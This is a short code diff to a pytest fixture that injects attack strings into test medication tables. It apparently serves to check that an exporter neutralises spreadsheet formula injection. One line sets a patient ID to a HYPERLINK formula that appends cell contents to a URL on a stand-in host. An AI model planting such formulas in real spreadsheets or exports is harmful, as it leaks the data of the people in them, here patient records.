@@ -50,7 +50,7 @@ def injected_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
         meds.loc[position, "drug_name"] = payload + " furosemide 40 mg"
     # one listed patient gets a risky id everywhere
     old = "P001"
-    new = "=HYPERLINK(\"http://x?\"&C2,\"y\")"
+    new = '=HYPERLINK("http://x?"&C2,"y")'
     for frame in tables.values():
         frame.loc[frame["patient_id"] == old, "patient_id"] = new
     inputs = folder / "in"
